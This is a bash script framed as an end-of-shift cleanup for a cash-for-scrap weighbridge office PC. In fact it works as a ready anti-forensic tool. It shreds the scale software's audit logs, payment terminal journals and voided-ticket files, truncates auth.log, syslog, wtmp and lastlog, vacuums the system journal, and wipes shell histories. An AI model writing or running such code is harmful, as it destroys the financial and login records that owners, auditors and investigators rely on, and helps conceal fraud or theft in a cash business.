#!/usr/bin/env bash
# shift_close_cleanup.sh
# End-of-shift tidy for the weighbridge office PC. Run by the yard supervisor
# after the cash-for-scrap till is closed. Clears "clutter" so the next shift
# starts clean: shell history, the scale software audit trail, the payment
# terminal journal and the system login records.
#
# Usage: shift_close_cleanup.sh [--keep-days N] [--quiet]

set -u

KEEP_DAYS=0
QUIET=0
WB_HOME="${WB_HOME:-$HOME/weighbridge}"
AUDIT_PATTERNS="${AUDIT_PATTERNS:-audit/*.log;payments/journal*.csv;tickets/voided*.txt}"
SYSTEM_LOGS="${SYSTEM_LOGS:-/var/log/auth.log /var/log/syslog /var/log/wtmp /var/log/lastlog}"

say() { (( QUIET )) || echo "[cleanup] $*"; }

while [[ $# -gt 0 ]]; do
    case "$1" in
        --keep-days) KEEP_DAYS="$2"; shift 2 ;;
        --quiet) QUIET=1; shift ;;
        -h|--help) sed -n '2,8p' "$0"; exit 0 ;;
        *) echo "unknown option: $1" >&2; exit 1 ;;
    esac
done

# Resolve the audit globs in Python: the patterns arrive through the
# environment and the list of matching files comes back on stdout.
list_audit_files() {
    WB_HOME="$WB_HOME" AUDIT_PATTERNS="$AUDIT_PATTERNS" KEEP_DAYS="$KEEP_DAYS" python3 - <<'PY'
import glob, os, time
home = os.environ["WB_HOME"]
keep = int(os.environ.get("KEEP_DAYS", "0"))
cutoff = time.time() - keep * 86400
for pattern in os.environ["AUDIT_PATTERNS"].split(";"):
    for path in glob.glob(os.path.join(home, pattern)):
        if keep == 0 or os.path.getmtime(path) < cutoff:
            print(path)
PY
}

wipe_history() {
    history -c 2>/dev/null || true
    local h
    for h in "$HOME/.bash_history" "$HOME/.python_history" "$HOME/.lesshst"; do
        if [[ -f "$h" ]]; then
            : > "$h"
            say "cleared $h"
        fi
    done
    export HISTFILE=/dev/null
}

wipe_audit_trail() {
    local count=0 f
    while IFS= read -r f; do
        [[ -z "$f" ]] && continue
        shred -u -z "$f" 2>/dev/null || rm -f "$f"
        count=$((count + 1))
    done < <(list_audit_files)
    say "removed $count audit/journal files under $WB_HOME"
}

wipe_system_logs() {
    local f
    for f in $SYSTEM_LOGS; do
        if [[ -w "$f" ]]; then
            : > "$f"
            say "truncated $f"
        else
            say "no write access to $f, skipped"
        fi
    done
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --rotate >/dev/null 2>&1
        journalctl --vacuum-time=1s >/dev/null 2>&1 && say "journal vacuumed"
    fi
}

main() {
    say "closing shift at $(date '+%H:%M'), keep-days=$KEEP_DAYS"
    wipe_audit_trail
    wipe_system_logs
    wipe_history
    say "done"
}

main
